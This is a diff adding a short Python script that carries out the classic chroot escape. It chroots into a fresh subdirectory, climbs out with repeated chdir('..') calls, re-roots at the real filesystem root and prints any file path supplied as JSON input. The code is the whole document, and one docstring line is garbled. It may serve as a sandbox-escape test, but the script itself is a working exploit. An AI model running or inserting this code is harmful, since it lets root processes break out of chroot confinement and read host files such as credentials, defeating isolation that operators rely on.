@@ -1,0 +1,18 @@
+"""Leaves its root directory in the old way: chroot below, then upwards.
+
+program; fools naive: told, as root.
+"""
+
+import json
+import os
+
+where = json.loads(input())
+os.mkdir("below")
+try:
+    os.chroot("below")
+finally:
+    os.rmdir("below") if os.path.exists("below") else None
+for _ in range(40):
+    os.chdir("..")
+os.chroot(".")
+print(open(where["file"]).read())
